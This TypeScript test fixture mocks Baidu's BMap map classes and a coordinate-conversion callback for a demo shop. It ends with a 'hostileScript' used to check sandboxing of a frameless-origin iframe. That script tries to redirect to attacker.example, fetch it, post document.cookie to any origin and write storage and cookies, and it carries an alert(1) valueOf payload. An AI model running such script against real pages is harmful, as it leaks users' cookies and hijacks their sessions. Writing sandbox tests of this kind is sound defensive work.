import { MAP_GEOMETRY } from "./mapGeometry.ts"
import { simulatedPlaces } from "./simulatedPlaces.ts"

/**
 * The script of a simulated Chinese provider: the classes of Baidu's `BMap` that the shop uses, over the Chinese cities
 * of the demo world. With a rejected key it has no classes and calls back all the same, as the provider does.
 */
export const chinaMapScript = (callback: string, isKeyRejected: boolean): string =>
  isKeyRejected
    ? `(() => { ${callOf(callback)} })()\n`
    : `(() => {
"use strict"
const PLACES = ${JSON.stringify(simulatedPlaces("CN"))}
${MAP_GEOMETRY}
class Point {
  constructor(lng, lat) {
    Object.assign(this, { lng, lat })
  }
  equals({ lng, lat }) {
    return this.lng === lng && this.lat === lat
  }
}
class Size {
  constructor(width, height) {
    Object.assign(this, { width, height })
  }
}
class Icon {
  constructor(imageUrl, size, options = {}) {
    Object.assign(this, { imageUrl, size, ...options })
  }
}
class Events {
  constructor() {
    this.listeners = new Map()
  }
  addEventListener(name, listener) {
    this.listeners.set(name, [...(this.listeners.get(name) || []), listener])
  }
  removeEventListener(name, listener) {
    this.listeners.set(name, (this.listeners.get(name) || []).filter((one) => one !== listener))
  }
  emit(name) {
    for (const listener of this.listeners.get(name) || []) listener({ type: name, target: this })
  }
}
const iconOf = ({ imageUrl, size }) => ({ url: imageUrl, width: size.width, height: size.height })
class Map_ extends Events {
  constructor(element) {
    super()
    this.view = createView(typeof element === "string" ? document.getElementById(element) : element)
    for (const name of ["moveend", "zoomend"]) this.view.listen(name, () => this.emit(name))
  }
  centerAndZoom(center, zoom) {
    this.view.show(center, zoom)
  }
  panTo(center) {
    this.view.show(center)
  }
  setZoom(zoom) {
    this.view.show(this.view, zoom)
  }
  getCenter() {
    return new Point(this.view.lng, this.view.lat)
  }
  getZoom() {
    return this.view.zoom
  }
  getBounds() {
    const { south, west, north, east } = this.view.bounds()
    return { getSouthWest: () => new Point(west, south), getNorthEast: () => new Point(east, north) }
  }
  getViewport(points) {
    const { center, zoom } = this.view.viewport(points)
    return { center: new Point(center.lng, center.lat), zoom: Math.min(zoom, 19) }
  }
  addOverlay(marker) {
    marker.draw(this)
  }
  removeOverlay(marker) {
    marker.drawn?.remove()
  }
  clearOverlays() {
    for (const { part } of this.view.markers) part.remove()
    this.view.markers.clear()
  }
  openInfoWindow(info, at) {
    this.closeInfoWindow()
    this.opened = info
    this.view.openInfo(at, info.content)
  }
  closeInfoWindow() {
    this.view.closeInfo()
    const closed = this.opened
    this.opened = undefined
    closed?.emit("close")
  }
  enableScrollWheelZoom() {}
}
class Marker extends Events {
  constructor(point, { icon = new Icon("", new Size(24, 32)), title = "" } = {}) {
    super()
    Object.assign(this, { point, icon, title })
  }
  draw({ view }) {
    this.drawn = view.addMarker(this.point, this.title, iconOf(this.icon), () => this.emit("click"))
  }
  setIcon(icon) {
    this.icon = icon
    this.drawn?.setIcon(iconOf(icon))
  }
  getPosition() {
    return this.point
  }
}
class InfoWindow extends Events {
  constructor(content, options) {
    super()
    Object.assign(this, { content, options })
  }
}
const later = (callback, value) => setTimeout(() => callback(value), 0)
class Geocoder {
  getPoint(address, callback, city = "") {
    const [found] = search(address + " " + city)
    later(callback, found === undefined ? null : new Point(found.lng, found.lat))
  }
  getLocation(point, callback) {
    const [found] = around(point)
    later(callback, found === undefined ? null : {
      point,
      address: found.stateName + found.names[0],
      addressComponents: { province: found.stateName, city: found.names[0], district: "" },
    })
  }
}
class LocalSearch {
  constructor(place, { onSearchComplete = () => {} } = {}) {
    Object.assign(this, { place, onSearchComplete })
  }
  search(words) {
    const found = search(words).map(({ names: [title], lat, lng }) => ({ title, point: new Point(lng, lat) }))
    later(this.onSearchComplete, { getCurrentNumPois: () => found.length, getPoi: (at) => found[at] })
  }
}
window.BMap = { Geocoder, Icon, InfoWindow, LocalSearch, Map: Map_, Marker, Point, Size }
${callOf(callback)}
})()
`

const callOf = (callback: string): string =>
  callback === ""
    ? ""
    : `if (typeof window[${JSON.stringify(callback)}] === "function") window[${JSON.stringify(callback)}]()`

/** Distance of the provider's coordinates from WGS 84, about as large as the real one, in degrees. */
const OFFSET = { x: 0.0125, y: 0.0084 }

/** The answer of the conversion of coordinates: a script that calls back with both numbers as Base64 texts. */
export const conversionScript = (x: number, y: number, callback: string): string => {
  const encoded = (value: number) => Buffer.from(value.toFixed(6)).toString("base64")
  const answer = { error: 0, x: encoded(x + OFFSET.x), y: encoded(y + OFFSET.y) }
  return `window[${JSON.stringify(callback)}]&&window[${JSON.stringify(callback)}](${JSON.stringify(answer)})\n`
}

/**
 * A hostile answer of the conversion: it reads everything it can reach, leaves the page, and calls back with no
 * numbers. In a frame without an origin nothing of it succeeds.
 */
export const hostileScript = (callback: string): string => `
const tried = [
  () => (parent.document.title = "stolen"),
  () => (top.location.href = "https://attacker.example/"),
  () => localStorage.setItem("stolen", "1"),
  () => (document.cookie = "stolen=1"),
  () => parent.postMessage({ id: 1, x: 0, y: 0, stolen: document.cookie }, "*"),
  () => window.open("https://attacker.example/"),
  () => fetch("https://attacker.example/"),
]
for (const attempt of tried) try { attempt() } catch {}
window[${JSON.stringify(callback)}]?.({ x: { valueOf: () => alert(1) }, y: "91" })
`
